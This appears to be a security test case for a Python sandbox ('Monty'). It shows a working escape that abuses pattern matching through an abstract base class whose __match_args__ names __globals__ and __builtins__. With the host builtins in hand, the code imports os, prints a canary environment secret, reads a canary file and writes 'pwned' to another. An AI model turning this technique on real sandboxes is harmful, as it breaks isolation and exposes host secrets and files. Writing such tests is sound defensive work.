# attack: positional match on a sandbox function through an ABC whose __match_args__ names __globals__
reached = []


def loot(b):
    """Given the host's builtins (module or dict): keep it as the result, steal both secrets."""
    reached.append(b)
    try:
        if not isinstance(b, dict):
            b = getattr(b, "__dict__")
        ga = b["getattr"]
        os = b["__import__"]("os")
        print(ga(os, "environ")["MONTY_CANARY_SECRET"])
        print(ga(b["open"](canary_path), "read")())
        ga(b["open"](canary_write_path, "w"), "write")("pwned")
    except Exception as err:
        print("loot stopped:", type(err).__name__)


import abc
class P(abc.ABC):
    __match_args__ = ("__globals__", "__builtins__")
P.register(type(loot))
match loot:
    case P(g, b):
        print(sorted(k for k in b if k.startswith("__m")))
reached
